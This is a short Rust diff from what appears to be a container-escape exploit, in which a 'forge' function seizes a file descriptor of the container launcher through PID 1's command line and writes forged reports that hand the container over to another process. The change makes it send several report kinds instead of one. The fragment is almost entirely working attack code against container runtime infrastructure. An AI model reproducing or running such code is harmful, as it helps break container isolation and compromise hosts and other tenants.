@@ -95,12 +95,15 @@ fn smuggle(name: &str) -> io::Result<()> {
 
 /// Tells the launcher in PID 1's name that another process is the container from here on.
 fn forge(pid: u32) -> io::Result<()> {
-    const HANDED_OVER: u8 = 8;
+    /// A terminal, another process, another namespace (init/src/report.rs).
+    const KINDS: [u8; 3] = [4, 7, 8];
     let line = fs::read_to_string("/proc/1/cmdline")?;
     let terms = line.split('\0').nth(1).unwrap_or_default();
     let channel = attack::take_descriptor(1, number(&terms.split(',').collect::<Vec<_>>(), 2)?)?;
-    let report = [[HANDED_OVER, 0, 0, 0], pid.to_le_bytes()].concat();
-    fs::File::from(channel).write_all(&report)
+    let mut channel = fs::File::from(channel);
+    KINDS
+        .into_iter()
+        .try_for_each(|kind| channel.write_all(&[[kind, 0, 0, 0], pid.to_le_bytes()].concat()))
 }
 
 /// One below the cgroup that we are in, by a file system of our own.
